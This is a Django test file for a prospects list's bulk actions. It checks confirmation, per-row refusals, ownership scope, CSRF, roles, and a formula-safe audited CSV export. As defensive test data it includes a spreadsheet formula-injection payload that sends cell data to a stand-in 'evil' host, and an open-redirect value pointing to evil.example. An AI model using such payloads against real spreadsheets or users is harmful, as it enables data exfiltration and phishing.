"""Bulk actions from the list: confirmed first, each row decided on its own, in scope only."""

import csv
import datetime
import io

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditEvent
from prospects.models import FollowUp, Prospect
from tests.factories import EmployeeFactory, ProspectFactory
from tests.prospects.conftest import BEFORE_HIRE

pytestmark = pytest.mark.django_db


def post(client, who, action, ids, **extra):
    client.force_login(who.user)
    data = {"action": action, "ids": [str(pk) for pk in ids], "next": "/prospects/?q=x", **extra}
    return client.post(reverse("prospect-bulk"), data)


def confirm(client, who, action, ids, **extra):
    return post(client, who, action, ids, confirm="1", **extra)


def summary(response) -> str:
    return " ".join(str(m) for m in get_messages(response.wsgi_request))


def tomorrow():
    return (timezone.localdate() + datetime.timedelta(days=1)).isoformat()


def test_a_bulk_action_asks_for_confirmation_first_and_names_the_rows(client, rep):
    prospects = [ProspectFactory(owner=rep, full_name=f"Person {n}") for n in range(2)]
    response = post(client, rep, "follow_up", [p.pk for p in prospects])
    page = response.content.decode()
    assert response.status_code == 200
    assert "Person 0" in page and "Person 1" in page
    assert 'name="confirm" value="1"' in page
    assert FollowUp.objects.count() == 0


def test_a_bulk_follow_up_plans_one_per_row_and_says_how_many(client, rep):
    prospects = [ProspectFactory(owner=rep) for _ in range(3)]
    response = confirm(client, rep, "follow_up", [p.pk for p in prospects], due_on=tomorrow())
    assert response.status_code == 302
    assert response["Location"] == "/prospects/?q=x"
    assert FollowUp.objects.count() == 3
    assert "3 done" in summary(response)
    assert {p.next_follow_up_on for p in Prospect.objects.all()} == {
        timezone.localdate() + datetime.timedelta(days=1)
    }


def test_a_past_follow_up_date_is_refused_with_its_reason(client, rep):
    prospect = ProspectFactory(owner=rep)
    yesterday = (timezone.localdate() - datetime.timedelta(days=1)).isoformat()
    response = confirm(client, rep, "follow_up", [prospect.pk], due_on=yesterday)
    assert FollowUp.objects.count() == 0
    message = summary(response)
    assert "0 done, 1 refused" in message
    assert "A follow-up is planned for today or a later day." in message


def test_ids_outside_the_callers_list_are_ignored_never_acted_on(client, rep, outsider):
    mine = ProspectFactory(owner=rep)
    theirs = ProspectFactory(owner=outsider)
    response = confirm(client, rep, "follow_up", [mine.pk, theirs.pk], due_on=tomorrow())
    assert FollowUp.objects.get().prospect == mine
    assert "1 done" in summary(response)
    # Only out-of-scope ids: nothing to act on.
    response = confirm(client, rep, "follow_up", [theirs.pk], due_on=tomorrow())
    assert response.status_code == 302 and FollowUp.objects.count() == 1
    assert "Tick at least one prospect" in summary(response)


def test_select_all_on_the_page_takes_every_row_of_the_page(client, rep):
    prospects = [ProspectFactory(owner=rep) for _ in range(3)]
    client.force_login(rep.user)
    client.post(
        reverse("prospect-bulk"),
        {
            "action": "follow_up",
            "all_on_page": "1",
            "confirm": "1",
            "due_on": tomorrow(),
            "page_ids": [str(p.pk) for p in prospects],
        },
    )
    assert FollowUp.objects.count() == 3


def test_contributing_refuses_others_and_employment_contacts_row_by_row(
    client, manager, team, create_prospect
):
    rep = team["rep"]
    pre_hire = create_prospect(rep, full_name="Old Friend", collected_at=BEFORE_HIRE)
    employment = create_prospect(rep, full_name="New Lead")
    response = confirm(client, rep, "contribute", [pre_hire.pk, employment.pk])
    message = summary(response)
    assert "1 done, 1 refused" in message
    assert "New Lead (only a contact from before the hire can be contributed" in message
    assert Prospect.objects.get(pk=pre_hire.pk).contributed
    # The manager sees the team's contacts but the decision is the owner's.
    other = create_prospect(rep, full_name="Another Friend", collected_at=BEFORE_HIRE)
    message = summary(confirm(client, manager, "contribute", [other.pk]))
    assert "0 done, 1 refused" in message and "only the owner decides" in message
    assert not Prospect.objects.get(pk=other.pk).contributed


def test_sharing_in_bulk_shares_the_callers_own_rows_only(client, manager, team):
    colleague = EmployeeFactory(role="rep")
    mine = ProspectFactory(owner=manager, full_name="Manager's")
    teams = ProspectFactory(owner=team["rep"], full_name="Rep's")
    response = confirm(client, manager, "share", [mine.pk, teams.pk], employee=colleague.pk)
    assert "1 done, 1 refused" in summary(response)
    assert colleague.user.has_perm("prospects.view_prospect", mine)
    assert not colleague.user.has_perm("prospects.view_prospect", teams)


def test_the_csv_export_holds_the_callers_rows_formula_safe_and_audited(client, rep, outsider):
    hostile = ProspectFactory(owner=rep, full_name='=HYPERLINK("http://evil/?"&A1,"x")')
    plain = ProspectFactory(owner=rep, full_name="Anne Morel", company="Acme")
    shared = ProspectFactory(owner=outsider, full_name="Shared With Me")
    from guardian.shortcuts import assign_perm

    assign_perm("prospects.view_prospect", rep.user, shared)
    response = confirm(client, rep, "export", [hostile.pk, plain.pk, shared.pk])
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "full_name"
    exported = {row[0] for row in rows[1:]}
    assert exported == {'\'=HYPERLINK("http://evil/?"&A1,"x")', "Anne Morel"}
    event = AuditEvent.objects.get(action="prospects.exported")
    assert set(event.record_ids) == {str(hostile.pk), str(plain.pk)}
    assert "1 refused" in summary(response)


def test_bulk_needs_a_post_with_the_csrf_token(rep):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(rep.user)
    prospect = ProspectFactory(owner=rep)
    assert client.get(reverse("prospect-bulk")).status_code == 405
    response = client.post(
        reverse("prospect-bulk"),
        {"action": "follow_up", "ids": [str(prospect.pk)], "confirm": "1", "due_on": tomorrow()},
    )
    assert response.status_code == 403
    assert FollowUp.objects.count() == 0


def test_hr_has_no_bulk_actions(client, hr, rep):
    prospect = ProspectFactory(owner=rep)
    assert confirm(client, hr, "export", [prospect.pk]).status_code == 403


def test_the_next_page_stays_on_the_list(client, rep):
    prospect = ProspectFactory(owner=rep)
    response = confirm(
        client, rep, "follow_up", [prospect.pk], due_on=tomorrow(), next="https://evil.example/"
    )
    assert response["Location"] == reverse("prospects")


def test_a_bulk_follow_up_on_a_prospect_only_shared_with_the_caller_is_refused(
    client, rep, outsider
):
    from guardian.shortcuts import assign_perm

    mine = ProspectFactory(owner=rep, full_name="Mine")
    shared = ProspectFactory(owner=outsider, full_name="Shared With Me")
    assign_perm("prospects.view_prospect", rep.user, shared)
    response = confirm(client, rep, "follow_up", [mine.pk, shared.pk], due_on=tomorrow())
    assert "1 done, 1 refused" in summary(response)
    assert list(FollowUp.objects.values_list("prospect_id", flat=True)) == [mine.pk]
